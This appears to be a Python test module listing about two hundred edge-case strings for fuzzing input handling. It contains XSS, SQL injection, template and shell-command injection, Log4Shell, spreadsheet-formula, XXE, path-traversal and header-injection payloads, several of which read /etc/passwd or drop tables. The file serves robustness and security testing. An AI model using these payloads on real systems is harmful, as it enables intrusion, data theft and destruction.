"""Two hundred texts that programs have stumbled over: markup, SQL, templates, controls, directions, lengths, formulas, ..."""

SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert&#40;1&#41;</script>", "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)", "jAvAsCrIpT:alert(1)", "data:text/html,<script>alert(1)</script>", "<iframe src=javascript:alert(1)>",
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<math><mtext></p><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<form action=//example.invalid><button>x", "<base href=//example.invalid>",
    "<meta http-equiv=refresh content=0;url=//example.invalid>", "<link rel=stylesheet href=//example.invalid>",
    "<style>*{display:none}</style>", "<object data=x>", "<embed src=x>", "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>", "<input onfocus=alert(1) autofocus>", "<video><source onerror=alert(1)>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a>",
    "<image href=x onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;amp;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e", "<scr\u200bipt>alert(1)</scr\u200bipt>", "＜script＞alert(1)＜/script＞", "<<script>alert(1)//<</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>", "<x contenteditable onblur=alert(1)>", "<!-- a -- b -->", "<![CDATA[x]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
)  # fmt: skip
SQL = (
    "'", "''", "\"", "`", "' OR '1'='1", "'; DROP TABLE cases; --", "1; DELETE FROM users", "' UNION SELECT password FROM users --",
    "\\'; --", "%' OR 1=1 --", "_", "%", "%%", "!", "!%", "!!_", "[a-z]", "*/ DROP /*", "admin'--", "' || (SELECT 1) || '",
    "x' AND SLEEP(5)#", "0x3c", "NULL", "null", "None", "undefined", "NaN", "Infinity", "true", "0", "-1", "1e309", "007",
    "9" * 40, "1/0",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{% for x in y %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{self}",
    "%s%s%s%n", "%(name)s", "%d", "%x%x%x", "$(id)", "`id`", "; ls", "| cat /etc/passwd", "&& reboot", "$HOME", "~/x",
    "{{''.__class__.__mro__}}", "#set(x)", "[[x]]", "@{x}", "${jndi:ldap://example.invalid/a}", "#let x = 1", "#read(\"/etc/passwd\")",
    "$ sum_x $", "= Heading", "*bold* _it_", "# head", "[a](javascript:alert(1))", "![a](x)", "| a | b |", "```x```", "---", "<br>", "\\newpage",
    "@import url(x)", "expression(alert(1))",
)  # fmt: skip
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    '=HYPERLINK("http://example.invalid")',
    "=IMPORTXML(1)",
    "＝1+1",
    "|x",
)
PATHS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "file:///etc/passwd", "//example.invalid", "\\\\example.invalid\\x",
    "con", "nul.pdf", ".htaccess", "a/b", "a\\b", "..", ".", "%2e%2e%2f", "..%c0%af", "a;b=c", "a?b=c", "a#b", "a&b=c",
)  # fmt: skip
HEADERS = (
    "a\r\nSet-Cookie: a=b",
    "a\nX: y",
    "a\rX: y",
    "a%0d%0aX: y",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "a\r\n\r\n<html>",
    "a\x0bb",
    "a\x0cb",
)
CONTROLS = (
    "\0", "a\0b", "\x01\x02", "\x07", "\x08\x08", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x7f", "\x9b31m", "\x80\x81",
    "\ud800", "a\udfffb", "\udc80\ud83d", "\ufffe", "\uffff", "\ufeffa", "\ufffd", "a\u00adb", "\u200b", "a\u200bb", "a\u200db",
    "\u2060a", "\U000e0041", "\ue000",
)  # fmt: skip
DIRECTIONS = (
    "\u202egnp.exe",
    "a\u202db",
    "\u2066a\u2069",
    "\u2067a",
    "שלום",
    "مرحبا",
    "abc שלום 123",
    "\u200fa",
    "\u061ca",
    "a\u202c",
)
LETTERS = (
    "é", "e\u0301", "Å", "Å", "ﬁ", "ǆ", "ß", "İ", "ı", "ſ", "가", "\u1100\u1161", "龍", "龙", "𠮷", "㐀", "\ufa10", "葛\U000e0100",
    "👩‍👩‍👧‍👦", "🇨🇳", "👍🏽", "☃️", "1️⃣", "Z\u0351\u036b\u0343\u036a\u0302", "ﷺ", "①", "Ⅷ", "　全角　", "“引号”", "‘’", "·…—", "ａｂｃ", "零〇",
)  # fmt: skip
LENGTHS = (
    "名" * 10_000,
    "a" * 2_001,
    "a" * 2_000,
    "<" * 1_000,
    "&" * 1_000,
    "\u0301" * 500,
    "👍" * 1_000,
    " " * 500,
    "a " * 900,
    "\n" * 300,
)

STRINGS = tuple(
    dict.fromkeys((*SCRIPTS, *SQL, *TEMPLATES, *FORMULAS, *PATHS, *HEADERS, *CONTROLS, *DIRECTIONS, *LETTERS, *LENGTHS))
)
